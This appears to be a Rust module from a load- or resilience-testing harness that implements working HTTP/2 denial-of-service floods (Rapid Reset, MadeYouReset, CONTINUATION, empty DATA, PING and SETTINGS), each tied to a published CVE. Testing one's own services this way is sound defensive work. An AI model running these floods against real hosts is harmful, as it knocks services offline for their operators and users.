//! An attacker that sends as many frames as the host takes, and opens a new connection when the host closes the last one.

use std::io;
use std::ops::AddAssign;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{sleep, timeout_at};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, field,
    frame, get, head, opening,
};

#[derive(Debug, Clone, Copy)]
pub enum Flood {
    /// Requests that the attacker cancels at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the host has to cancel, because the next frame is wrong (CVE-2025-8671).
    MadeYouReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// A head that never ends, in frames without a field.
    EmptyContinuation,
    /// A body that never ends and has no bytes (CVE-2019-9518).
    EmptyData,
    /// Pings, each of which the host must answer (CVE-2019-9512).
    Ping,
    /// Settings, each of which the host must acknowledge (CVE-2019-9515).
    Settings,
}

/// What an attacker counted.
#[derive(Debug, Clone, Copy, Default)]
pub struct Seen {
    /// Frames that the attacker could send.
    pub frames: usize,
    /// Connections that the host ended.
    pub cut: usize,
}

impl AddAssign for Seen {
    fn add_assign(&mut self, other: Seen) {
        self.frames += other.frames;
        self.cut += other.cut;
    }
}

impl Flood {
    pub const ALL: [Flood; 7] = [
        Flood::RapidReset,
        Flood::MadeYouReset,
        Flood::Continuation,
        Flood::EmptyContinuation,
        Flood::EmptyData,
        Flood::Ping,
        Flood::Settings,
    ];

    /// Attacks until `until`.
    pub async fn attack(self, address: String, until: Instant) -> Seen {
        let mut seen = Seen::default();
        while Instant::now() < until {
            let connected = tokio::time::Instant::from_std(until);
            match timeout_at(connected, self.flood_one(&address, &mut seen.frames)).await {
                Ok(_cut) => seen.cut += 1,
                Err(_elapsed) => return seen,
            }
            // The machine has a limited number of ports. Without this pause the attacker would run out of them too early.
            sleep(BETWEEN_CONNECTIONS).await;
        }
        seen
    }

    /// Floods one connection until the host closes it.
    async fn flood_one(self, address: &str, frames: &mut usize) -> io::Result<()> {
        let mut connection = TcpStream::connect(address).await?;
        let (mut reading, mut writing) = connection.split();
        let flood = async {
            writing.write_all(&[opening(), self.first()].concat()).await?;
            let mut stream = 1;
            loop {
                let (batch, count) = self.batch(&mut stream);
                writing.write_all(&batch).await?;
                *frames += count;
            }
        };
        // The attacker reads answers, so that only the flood itself can block the host.
        let mut answers = vec![0; 1 << 16];
        let drain = async {
            while reading.read(&mut answers).await? > 0 {}
            io::Result::Ok(())
        };
        tokio::select! {
            ended = flood => ended,
            ended = drain => ended,
        }
    }

    /// The frames before the flood.
    fn first(self) -> Vec<u8> {
        match self {
            Flood::Continuation | Flood::EmptyContinuation => {
                frame(HEADERS, END_STREAM, 1, &head("GET", PATH))
            }
            Flood::EmptyData => frame(HEADERS, END_HEADERS, 1, &head("POST", "/tickets")),
            Flood::RapidReset | Flood::MadeYouReset | Flood::Ping | Flood::Settings => Vec::new(),
        }
    }

    /// A few frames of the flood, and their number.
    fn batch(self, stream: &mut u32) -> (Vec<u8>, usize) {
        let mut batch = Vec::new();
        for _ in 0..IN_A_BATCH {
            batch.extend(match self {
                Flood::RapidReset => [get(*stream, PATH), frame(RST_STREAM, 0, *stream, &CANCEL)].concat(),
                Flood::MadeYouReset => {
                    [get(*stream, PATH), frame(WINDOW_UPDATE, 0, *stream, &NOTHING)].concat()
                }
                Flood::Continuation => frame(CONTINUATION, 0, 1, &field("x-a", "b")),
                Flood::EmptyContinuation => frame(CONTINUATION, 0, 1, &[]),
                Flood::EmptyData => frame(DATA, 0, 1, &[]),
                Flood::Ping => frame(PING, 0, 0, b"pingping"),
                Flood::Settings => frame(SETTINGS, 0, 0, &MAX_FRAME_SIZE),
            });
            // A client uses odd stream ids, which begin anew with each connection.
            *stream += 2;
        }
        (batch, IN_A_BATCH)
    }
}

/// A request that reaches the component.
const PATH: &str = "/tickets?caller=flood";
const IN_A_BATCH: usize = 50;
/// The error code of RST_STREAM, and the increment of a WINDOW_UPDATE that has to have one.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
const NOTHING: [u8; 4] = [0; 4];
/// `SETTINGS_MAX_FRAME_SIZE` with its default value.
const MAX_FRAME_SIZE: [u8; 6] = [0, 5, 0, 0, 0x40, 0];
const BETWEEN_CONNECTIONS: Duration = Duration::from_millis(5);
